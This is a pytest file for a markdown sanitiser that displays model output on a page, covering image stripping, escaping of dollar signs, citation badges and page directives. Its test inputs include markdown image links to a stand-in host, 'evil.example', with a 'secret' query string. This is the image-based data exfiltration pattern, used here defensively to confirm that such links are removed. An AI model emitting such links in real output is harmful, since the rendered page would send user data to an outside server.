"""Text of models and documents on a page: nothing is fetched, nothing is run, nothing is lost."""

import pytest

from pages.ui.markdown import label, safe


@pytest.mark.parametrize(
    "hostile",
    [
        "![leak](https://evil.example/?q=secret)",
        "![leak][pic]\n\n[pic]: https://evil.example/x.png",
        "[pic]: https://evil.example/x.png\n![pic]",
    ],
)
def test_an_image_is_named_and_never_fetched(hostile: str) -> None:
    shown = safe(hostile)
    assert "![" not in shown
    assert "evil.example" not in shown
    assert "(image: " in shown


def test_money_is_not_taken_for_a_formula() -> None:
    assert safe("It costs $5 or $6.") == r"It costs \$5 or \$6."


def test_a_citation_becomes_a_badge_only_when_there_is_such_a_source() -> None:
    assert safe("Yes [1]. No [9].", 2) == r"Yes :primary-badge[1]. No \[9\]."
    assert safe("Both [1, 2].", 2) == "Both :primary-badge[1] :primary-badge[2]."
    assert safe("a [1](https://example.org)", 2) == "a [1](https://example.org)"


def test_code_stays_as_it_was_written() -> None:
    code = "```python\nprint('$1 ![x](y) [1]')\n```"
    assert safe(code, 1) == code
    assert safe("use `$HOME`") == "use `$HOME`"


def test_directives_of_the_page_are_only_text() -> None:
    assert safe(":red[danger] :material/bolt:") == r"\:red[danger] \:material/bolt:"
    assert safe("at 10:30, see: this") == "at 10:30, see: this"


def test_a_title_shows_its_signs() -> None:
    assert label("![x](http://evil)\n*a*") == r"\!\[x\]\(http\://evil\) \*a\*"
